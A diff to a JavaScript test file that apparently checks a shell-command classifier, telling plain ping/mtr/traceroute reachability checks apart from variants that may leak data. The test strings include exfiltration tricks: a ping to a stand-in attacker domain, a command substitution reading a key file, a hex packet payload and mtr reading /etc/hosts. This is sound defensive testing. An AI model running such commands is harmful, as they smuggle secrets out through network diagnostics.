@@ -50,3 +50,11 @@ it.each([
 it("names the file that what was fetched goes to", () => {
   expect(shellFacts("curl -s https://acme.example/a > notes.txt").paths).toEqual(["notes.txt"]);
 });
+
+it.each(["ping -c 3 198.51.100.1", "mtr -rwc 20 198.51.100.1", "traceroute -n 2001:db8::1"])("%s only tries how a machine is reached", (command) => {
+  expect(shellFacts(command)).toMatchObject({ class: "network", reaches: ["look"] });
+});
+
+it.each(["ping -c 3 key.evil.example", "ping $(cat key)", "ping -p 736563726574 198.51.100.1", "mtr --filename=/etc/hosts 198.51.100.1", "ping -I /tmp/x 198.51.100.1", "ping", "mtr 198.51.100.1 key.evil.example"])("%s may tell more", (command) => {
+  expect(shellFacts(command).reaches).not.toEqual(["look"]);
+});
